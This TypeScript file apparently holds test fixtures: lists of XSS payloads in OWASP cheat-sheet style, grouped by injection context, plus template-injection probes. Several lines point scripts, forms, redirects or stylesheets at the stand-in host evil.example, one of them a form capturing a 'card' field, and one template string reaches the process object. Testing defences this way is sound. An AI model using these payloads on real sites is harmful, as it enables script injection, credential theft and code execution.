/**
 * Strings with which attackers try to run a script in a page, for the places where our pages show
 * what visitors have written. The techniques are those of OWASP's XSS Filter Evasion Cheat Sheet and
 * of the HTML standard's tokenizer; each payload is made for one of these places.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Between tags.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<b onmouseover=alert(1)>over here</b>',
  '<a href="javascript:alert(1)">here</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<form action=//evil.example><input name=card><button>OK',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<style>@import "//evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
  // To end the element, or the comment, around it.
  '</p><script>alert(1)</script>',
  '</strong></article><img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '</SCRIPT ><img src=x onerror=alert(1)>',
  '<!--',
  '-->',
  '<!-- <script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '</title></textarea></style><script>alert(1)</script>',
  // To end the attribute.
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  'x onmouseover=alert(1)',
  'x/onmouseover=alert(1)',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"autofocus onfocus=alert(1) x="',
  '` onmouseover=alert(1)',
  'x\tonmouseover=alert(1)',
  'x\nonmouseover=alert(1)',
  '>',
  // As a URL.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://https://reader.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  // For code that decodes once too often.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  // For a filter whose result is what it should have removed.
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)//',
];

/** Strings that a template language executes when they become a part of a template. */
export const TEMPLATE_PAYLOADS: readonly string[] = [
  '{{ 7 * 7 }}',
  '{{7*7}}',
  '{{ range.constructor("return 1")() }}',
  '{{ "x".constructor.constructor("return process")().pid }}',
  '{% for i in range(3) %}x{% endfor %}',
  '{% set x = 1 %}',
  '{% include "layout.njk" %}',
  '{% raw %}',
  '{% endif %}',
  '{# gone #}',
  '{{',
  '}}',
  '{%',
  '{{ message }}',
  '{{ to | safe }}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
];
